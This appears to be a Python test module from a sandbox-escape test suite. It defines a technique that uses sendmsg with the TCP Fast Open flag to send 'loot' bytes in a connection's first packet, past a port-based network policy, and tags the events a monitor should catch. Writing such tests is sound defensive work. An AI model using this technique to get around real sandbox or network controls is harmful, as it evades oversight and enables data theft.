"""Send with a connection's first packet by sendmsg."""

import ctypes
import struct

from tests.escape.grants import another_port, connect_tcp
from tests.escape.technique import Granted, Technique


def attack(world):
    descriptor = world.socket_raw(2, 1)
    address = ctypes.create_string_buffer(world.ipv4(world.tcp))
    data = ctypes.create_string_buffer(b"loot")
    vector = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(data), 4))
    head = struct.pack("=QI4xQQQQi4x", ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0)
    world.syscall("sendmsg", descriptor, head, 0x20000000)


TECHNIQUE = Technique(
    source="tcp(7) TCP_FASTOPEN",
    policy=another_port,
    event=("net.connect", "net.send"),
    by="kernel",
    syscall="sendmsg",
    stops=("notification",),
    control=Granted(connect_tcp),
)
